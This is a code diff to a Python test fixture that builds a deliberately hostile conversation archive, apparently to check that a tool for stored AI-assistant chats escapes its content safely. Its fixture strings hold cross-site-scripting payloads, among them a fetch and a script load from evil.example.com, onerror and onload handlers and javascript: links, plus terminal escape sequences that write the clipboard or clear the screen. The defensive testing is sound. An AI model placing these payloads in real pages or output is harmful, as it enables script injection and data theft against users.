@@ -18,6 +18,7 @@ from copilog.diagnostics import Ledger
 from copilog.model import (
     AnyPart,
     Attachment,
+    Branch,
     Confirmation,
     Conversation,
     FileChange,
@@ -36,7 +37,7 @@ from copilog.model import (
     Workspace,
 )
 from copilog.store.archive import Archive
-from copilog.store.entries import entry_of
+from tests.stored import concluded_entry
 
 NOON = datetime(2026, 5, 4, 12, 0, tzinfo=UTC)
 RUN = "window.ran=1;alert(1);fetch('https://evil.example.com/run')"
@@ -49,6 +50,7 @@ ESCAPES = (
     f"\x1b]8;;javascript:{RUN}\x1b\\a link\x1b]8;;\x1b\\ \x1b]0;a title\x07\x1b[2J\x1b[1;31mred<b>\x1b[0m \x9b31m"
     f"\x1b]52;c;aGk=\x07\x1bP+q\x1b\\ \x00 \x08 \u202eturned\u202c <script>{RUN}</script>\r<img src={PICTURE}>"
 )
+
 PROSE = f"""</script></textarea></title></style></template></noscript>--> ]]>
 <script>{RUN}</script><script src="https://evil.example.com/a.js"></script>
 <img src=x onerror="{RUN}"> <svg onload="{RUN}"><a xlink:href="javascript:{RUN}"></a></svg>
@@ -171,13 +173,19 @@ def hostile_conversation(**fixed: Any) -> Conversation:
     ]
     messages.append(hostile_struct(Message, role="assistant", turn=1, parent_call_id=NAME, parts=hostile_parts()))
     messages.append(hostile_struct(Message, role="assistant", turn=1, parent_call_id=None, parts=hostile_parts()))
+    messages.append(hostile_struct(Message, role="user", turn=2, parent_call_id=None, parts=hostile_parts()))
+    branch = hostile_struct(Branch, leaves_from=0)
     values: dict[str, Any] = {
         "id": ID,
         "source": "vscode-session",
         "workspace": hostile_struct(Workspace),
         "started_at": NOON,
         "updated_at": NOON,
-        "turns": [hostile_struct(Turn, index=0, status="failed"), hostile_struct(Turn, index=1, status="complete")],
+        "turns": [
+            hostile_struct(Turn, index=0, status="failed", superseded=None, branch=None),
+            hostile_struct(Turn, index=1, status="complete", superseded=None, branch=branch),
+            hostile_struct(Turn, index=2, branch=branch),
+        ],
         "messages": messages,
         "queued": [hostile_struct(Queued, message=messages[1])],
         "file_changes": [hostile_struct(FileChange, turn=0)],
@@ -193,7 +201,7 @@ def hostile_conversation(**fixed: Any) -> Conversation:
 def make_hostile_archive(path: Path) -> Path:
     """An archive that holds the hostile conversation, with a label and a note, and a file with problems."""
     with Archive(path, write=True) as archive:
-        archive.put(entry_of(hostile_conversation()), "1")
+        archive.put(concluded_entry(hostile_conversation()), "1")
         archive.index_pending()
         archive.star(ID)
         archive.label(ID, NAME)
